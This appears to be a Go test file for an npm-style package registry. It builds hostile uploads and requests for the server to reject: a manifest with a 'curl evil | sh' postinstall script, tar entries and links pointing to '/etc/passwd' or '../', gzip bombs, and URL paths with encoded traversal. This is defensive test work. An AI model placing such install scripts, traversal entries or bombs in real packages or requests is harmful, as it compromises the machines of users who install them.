package npm_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
)

// hostileManifests differ from what is in the tarball, or cannot be served.
func hostileManifests() (all []attack) {
	// What the manifest says that the tarball does not, and the other way.
	for what, extra := range map[string]object{
		"a script": {"scripts": object{"postinstall": "curl evil | sh"}}, "an install script": {"scripts": object{"install": "x"}},
		"a dependency": {"dependencies": object{"evil": "1.0.0"}}, "an optional one": {"optionalDependencies": object{"evil": "1.0.0"}},
		"a peer": {"peerDependencies": object{"evil": "1.0.0"}},
	} {
		p := lib()
		p.edit = func(_, manifest object) {
			for k, v := range extra {
				manifest[k] = v
			}
		}
		all = append(all, of("in the manifest alone: "+what, p))
		p = lib()
		p.json = extra
		p.edit = func(_, manifest object) {
			for k := range extra {
				delete(manifest, k)
			}
		}
		all = append(all, of("in the tarball alone: "+what, p))
	}
	for what, change := range map[string]func(manifest object){
		"another name": func(m object) { m["name"] = "other" }, "another version": func(m object) { m["version"] = "1.0.1" },
		"no name": func(m object) { delete(m, "name") }, "no version": func(m object) { delete(m, "version") },
		"a name of null": func(m object) { m["name"] = nil }, "a version of a number": func(m object) { m["version"] = 1 },
		"another shasum": func(m object) { m["dist"].(object)["shasum"] = strings.Repeat("0", 40) },
		"a short shasum": func(m object) { m["dist"].(object)["shasum"] = "00" },
		"another integrity": func(m object) {
			m["dist"].(object)["integrity"] = "sha512-" + base64.StdEncoding.EncodeToString(make([]byte, 64))
		},
		"a wrong one beside the right": func(m object) {
			m["dist"].(object)["integrity"] = fmt.Sprint(m["dist"].(object)["integrity"], " sha1-AAAA")
		},
		"a dist of a text": func(m object) { m["dist"] = "x" },
	} {
		p := lib()
		p.edit = func(_, manifest object) { change(manifest) }
		all = append(all, of("a manifest with "+what, p))
	}
	// A package.json that says something else, or nothing.
	for _, text := range []string{
		"", "x", "null", "[]", "1", `"x"`, "{}", `{"name":"lib"}`, `{"version":"1.0.0"}`, `{"name":"other","version":"1.0.0"}`, `{"name":"lib","version":"1.0.1"}`,
		`{"name":1,"version":"1.0.0"}`, `{"name":"lib","version":1}`, `{"name":["lib"],"version":"1.0.0"}`, `{"name":"LIB","version":"1.0.0"}`, `{"name":"lib ","version":"1.0.0"}`,
		"{\"name\":\"lib\",\"version\":\"1.0.0\",\"x\":\"\xff\"}", `{"name":"lib","version":"1.0.0",}`, `{"name":"lib","version":"1.0.0"}}`, `{"name":"lib","version":"1.0.0"`,
		`{"name":"lib","version":"1.0.0","x":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "}",
		`{"name":"lib","version":"1.0.0","dependencies":["x"]}`, `{"name":"lib","version":"1.0.0","dependencies":"x"}`, `{"name":"lib","version":"1.0.0","dependencies":{"x":1}}`,
		`{"name":"lib","version":"1.0.0","peerDependencies":{"x":{}}}`, `{"name":"lib","version":"1.0.0","optionalDependencies":{"x":[1]}}`,
		`{"name":"lib","version":"1.0.0","devDependencies":1}`, `{"name":"lib","version":"1.0.0","x":"` + strings.Repeat("x", 1<<20) + `"}`,
		"\x00\x00\x00", "\xff\xfe{\x00}\x00",
	} {
		p := lib()
		p.tarball = tarred([]tar.Header{{Name: "package/package.json"}}, text)
		all = append(all, of(fmt.Sprintf("the package.json %.40q", text), p))
	}
	return all
}

const goodJSON = `{"name":"lib","version":"1.0.0"}`

// tree is an attack with entries beside package.json.
func tree(what string, entries ...tar.Header) attack {
	p := lib()
	p.tarball = tarred(append([]tar.Header{{Name: "package/package.json"}}, entries...), goodJSON)
	return of("a tarball with "+what, p)
}

// hostileTrees would be unpacked to somewhere else, or in two ways.
func hostileTrees() (all []attack) {
	for _, name := range []string{
		"../x", "package/../../x", "package/../x", "/x", "/etc/passwd", "package//x", "./package/x", "package/./x", "package/x/..", "package/x/.", "..", ".", "/", "//",
		`package\x`, `..\x`, `C:\x`, "C:/x", "c:x", "package/x\n", "package/\x01", "package/\x7f", "x", "package/package.json", "package/package.json/x",
		"other/package.json", "package2/package.json", "package/" + strings.Repeat("a/", 600) + "x", "package/caf\xe9",
	} {
		all = append(all, tree(fmt.Sprintf("the entry %.40q", name), tar.Header{Name: name, Format: tar.FormatGNU}))
	}
	for what, kind := range map[string]byte{"a symlink": tar.TypeSymlink, "a hard link": tar.TypeLink, "a device": tar.TypeChar, "a block device": tar.TypeBlock, "a pipe": tar.TypeFifo, "an unknown entry": 'Z'} {
		for _, target := range []string{"x", "../../x", "/etc/passwd", "package/package.json"} {
			all = append(all, tree(what+" to "+target, tar.Header{Name: "package/x", Typeflag: kind, Linkname: target}))
		}
	}
	return append(all,
		tree("a file that is a folder", tar.Header{Name: "package/a"}, tar.Header{Name: "package/a/b"}),
		tree("a folder that is a file", tar.Header{Name: "package/a/b"}, tar.Header{Name: "package/a"}),
		tree("a folder twice, once as file", tar.Header{Name: "package/a/", Typeflag: tar.TypeDir, Mode: 0o755}, tar.Header{Name: "package/a"}),
		tree("a file twice", tar.Header{Name: "package/a"}, tar.Header{Name: "package/a"}),
		tree("a file twice below two folders", tar.Header{Name: "package/a"}, tar.Header{Name: "other/a"}),
		tree("a link to package.json", tar.Header{Name: "package/package.json", Typeflag: tar.TypeSymlink, Linkname: "x"}),
	)
}

func zipped(content string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.WriteString(z, content); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

func unzipped(data string) string {
	z, err := gzip.NewReader(strings.NewReader(data))
	if err != nil {
		panic(err)
	}
	content, err := io.ReadAll(z)
	if err != nil {
		panic(err)
	}
	return string(content)
}

// zeros unpacks to far more than it is.
func zeros(n int, prefix string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.WriteString(z, prefix); err != nil {
		panic(err)
	}
	if _, err := io.CopyN(z, zero{}, int64(n)); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

type zero struct{}

func (zero) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// hostileArchives are no tarballs, or bombs.
func hostileArchives() (all []attack) {
	good := lib().pack()
	plain := unzipped(good)
	end := strings.TrimRight(plain, "\x00")
	var many []tar.Header
	for i := range 50_001 {
		many = append(many, tar.Header{Name: fmt.Sprintf("package/%d", i)})
	}
	header := plain[:512]
	large := []byte(header)
	copy(large[124:136], "77777777777\x00") // 8 GiB
	copy(large[148:156], fmt.Sprintf("%06o\x00 ", checksum(large)))
	for what, data := range map[string]string{
		"no gzip": plain, "a zip file": "PK\x03\x04" + good, "half of it": good[:len(good)/2], "without the end": good[:len(good)-4], "a wrong checksum": good[:len(good)-8] + "\x00\x00\x00\x00" + good[len(good)-4:],
		"something behind": good + "x", "an empty gzip": zipped(""), "text": zipped("hello"), "gzip in gzip": zipped(good), "zeros": zipped(strings.Repeat("\x00", 1024)),
		"no package.json": tarred([]tar.Header{{Name: "package/x"}}, "x"), "package.json too deep": tarred([]tar.Header{{Name: "package/a/package.json"}}, goodJSON),
		"package.json on top": tarred([]tar.Header{{Name: "package.json"}}, goodJSON), "package.json in no folder": tarred([]tar.Header{{Name: "package/package.json"}, {Name: "package.json"}}, goodJSON, goodJSON),
		"PACKAGE.JSON": tarred([]tar.Header{{Name: "package/PACKAGE.JSON"}}, goodJSON), "a folder called so": tarred([]tar.Header{{Name: "package/package.json/", Typeflag: tar.TypeDir}}),
		"a broken header": zipped("x" + plain[1:]), "a bomb": zeros(200<<20, ""), "a bomb after its end": zeros(200<<20, plain), "a second archive behind": zipped(plain + plain),
		"a second member":      good + good,
		"something hidden":     zipped(plain + strings.Repeat("\x00", 10_000) + "hidden"),
		"many entries":         tarred(many),
		"a file cut off":       zipped(end[:len(end)-3]),
		"a size it has not":    zipped(string(large)),
		"a large package.json": tarred([]tar.Header{{Name: "package/package.json"}}, `{"x":"`+strings.Repeat("x", 5<<20)+`"}`),
		"a bomb of a file":     zeros(150<<20, string(large)),
	} {
		p := lib()
		p.tarball = data
		all = append(all, of("a tarball: "+what, p))
	}
	return all
}

// checksum is that of a tar header, its own field taken for blanks.
func checksum(header []byte) (sum int) {
	for i, c := range header {
		if i >= 148 && i < 156 {
			c = ' '
		}
		sum += int(c)
	}
	return sum
}

// hostileAddresses ask for what is not there, in odd ways.
func hostileAddresses() (all []attack) {
	refused := []int{400, 401, 403, 404, 405, 409}
	for _, path := range []string{
		"lib/-/lib-..%2f1.0.0.tgz", "lib/-/lib-1.0.0.tgz%00", "lib/-/..%2f..%2fetc%2fpasswd", "lib/-/lib-1.0.0.tgz/x/y/z", "lib/-", "lib/-/", "-", "-/", "-/-", "-/-/-", "-/package",
		"-/package/lib", "-/package/lib/dist-tags", "-/package/..%2flib/dist-tags", "-/package/@a/dist-tags", "-/package/lib/dist-tags/..%2fx", "-/npm/v1/attestations/lib",
		"-/npm/v1/attestations/@", "-/npm/v1/attestations/lib@..%2f1", "-/npm/v1/attestations/@lib@1.0.0", "-/npm/v1/keys", "-/npm/v1/tokens", "-/org/x/package", "-/team/x/y/package",
		"-/all", "-/stage/package/lib", "-/v1/search/x", "@", "@a", "@a%2f", "@a%2fb%2fc", "@a/b/c/d/e", "lib/1.0.0/x", "lib/__proto__", "lib/constructor", "__proto__", "lib/-rev/1",
		"lib/-/lib-1.0.0.tgz/-rev/1", "@a/b/-/b-1.0.0.tgz/-rev/x%2f..%2fy", "api/v4/projects/1/packages/npm/lib/-/lib-1.0.0.tgz/-rev/1", "-/user/x", "-/user/org.couchdb.user:%00",
		"-/npm/v1/oidc/token/exchange/package/lib", "-/npm/v1/oidc/token/exchange/package/..%2f..", strings.Repeat("a/", 1000), strings.Repeat("%2f", 100),
	} {
		for _, method := range []string{"GET", "PUT", "DELETE", "POST", "PATCH"} {
			if method == "DELETE" && strings.Contains(path, "lib-1.0.0.tgz/-rev/1") {
				continue // what is gone is gone: 200
			}
			all = append(all, attack{name: "an address", method: method, path: path, body: "{}", want: refused})
		}
	}
	return all
}
